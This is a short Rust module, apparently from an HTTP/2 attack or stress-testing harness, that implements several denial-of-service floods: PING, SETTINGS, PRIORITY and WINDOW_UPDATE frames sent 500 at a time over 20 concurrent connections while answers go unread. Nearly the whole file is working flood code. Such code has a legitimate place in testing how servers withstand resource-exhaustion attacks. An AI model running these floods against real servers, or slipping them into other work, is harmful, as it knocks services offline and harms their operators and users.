//! Attacks with cheap frames in great number.

use tokio::io::AsyncWriteExt as _;

use super::{
    connection::{flood, flood_unread},
    frame::{Frames, kind},
};
use crate::attack::scene::Scene;

/// The frames of one write.
const AT_ONCE: usize = 500;

/// Floods connections with the frames of `add`, and reads no answers.
async fn unread(scene: Scene, add: fn(Frames) -> Frames) {
    let work = |scene: Scene| async move {
        let mut stream = scene.connect().await?;
        stream.write_all(&Frames::opening(&[]).0).await?;
        let frames = (0..AT_ONCE).fold(Frames::default(), |frames, _| add(frames));
        flood_unread(&mut stream, || frames.clone()).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn pings(scene: Scene) {
    unread(scene, |frames| frames.add(kind::PING, 0, 0, b"12345678")).await;
}

pub(super) async fn settings(scene: Scene) {
    unread(scene, |frames| frames.settings(&[(3, 100)])).await;
}

pub(super) async fn priorities(scene: Scene) {
    let work = |scene: Scene| async move {
        let mut stream = 1;
        let next = || {
            (0..AT_ONCE).fold(Frames::default(), |frames, _| {
                stream += 2;
                frames.add(kind::PRIORITY, 0, stream, &[0, 0, 0, 1, 16])
            })
        };
        flood(&scene, &[], next).await
    };
    scene.swarm(20, work).await;
}

pub(super) async fn window_updates(scene: Scene) {
    let work = |scene: Scene| async move {
        let frames = (0..AT_ONCE).fold(Frames::default(), |frames, _| frames.window(0, 1));
        flood(&scene, &[], || frames.clone()).await
    };
    scene.swarm(20, work).await;
}
